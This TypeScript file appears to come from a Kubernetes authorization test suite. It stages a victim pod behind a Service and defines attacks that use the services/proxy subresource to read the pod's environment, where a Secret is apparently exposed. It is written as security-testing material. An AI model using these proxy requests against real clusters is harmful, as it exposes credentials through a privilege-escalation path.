import { find } from "../../control-plane/act.ts";
import type { Attack } from "./attack.ts";
import type { Stage } from "./stage.ts";
import { runVictim, VICTIM } from "./streams.ts";

const SERVICE = "shop";
/** With a port, or with the only one that it has. */
const TARGET = `${SERVICE}:8080`;
const PLAIN = SERVICE;

/** A Service with the victim behind it; no controller looks for endpoints here. */
async function serve(stage: Stage): Promise<void> {
  const { plane, namespace } = stage;
  await runVictim(stage);
  const { metadata, status } = (await find(plane, "Pod", namespace, VICTIM))!;
  const base = `/api/v1/namespaces/${namespace}`;
  const ports = [{ port: 8080 }];
  const targetRef = { kind: "Pod", namespace, name: VICTIM, uid: metadata.uid };
  const subsets = [{ addresses: [{ ip: status.podIP, targetRef }], ports }];
  await plane.request("POST", `${base}/services`, { metadata: { name: SERVICE }, spec: { ports } });
  await plane.request("POST", `${base}/endpoints`, { metadata: { name: SERVICE }, subsets });
}

export const attacks: Attack[] = [
  { method: "GET", verb: "get", name: TARGET },
  { method: "POST", verb: "create", name: TARGET },
  { method: "GET", verb: "get", name: PLAIN },
].map(({ method, verb, name }) => ({
  edge: "services-proxy",
  elsewhere: true,
  how: `${verb}, named ${name}: asks an application that has the Secret, and answers whoever reaches it`,
  rights: (stage) => [stage.here(verb, "services/proxy", name)],
  arrange: serve,
  attack: async (stage) => {
    const path = `/api/v1/namespaces/${stage.namespace}/services/${name}/proxy/env`;
    return String(await stage.send(method, path));
  },
}));
